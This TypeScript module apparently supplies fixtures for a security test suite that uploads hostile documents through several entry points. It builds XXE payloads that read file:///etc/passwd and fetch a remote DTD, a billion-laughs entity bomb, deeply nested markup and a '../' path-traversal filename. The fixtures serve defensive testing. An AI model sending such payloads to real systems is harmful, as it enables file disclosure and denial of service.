/** Where a document is uploaded. */
export type Entrance = "gazette" | "sheet" | "calendar" | "file";
export type HostileDocument = {
  kind: string;
  what: string;
  name: string;
  make: (bait: Bait) => Buffer | string | Promise<Buffer | string>;
  through: Entrance[];
};
/** What a document tries to reach: a forbidden URL, and a file that must not be written. */
export type Bait = { url: string; file: string };

export const latin = (text: string) => Buffer.from(text, "latin1");
export const MB = 1 << 20;

/** External entities: at a URL, in a file, in a parameter entity. */
export const entity = ({ url, file }: Bait) =>
  `<!DOCTYPE w [<!ENTITY a SYSTEM "${url}/a"><!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY % c SYSTEM "${url}/c.dtd">%c;<!ENTITY d SYSTEM "file:///${file}">]>`;
/** Entities that expand exponentially (billion laughs). */
export const laughs = `<!DOCTYPE w [<!ENTITY l0 "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("")}]>`;
export const nested = (open: string, close: string, levels: number) =>
  open.repeat(levels) + close.repeat(levels);
export const climbing = (file: string) => `../../../../../../tmp/${file}`;

type Row = [what: string, make: HostileDocument["make"]];
/** Documents of a kind, with the same file name, uploaded in the same places. */
export const of = (kind: string, name: string, through: Entrance[], rows: Row[]): HostileDocument[] =>
  rows.map(([what, make]) => ({ kind, what, name, make, through }));
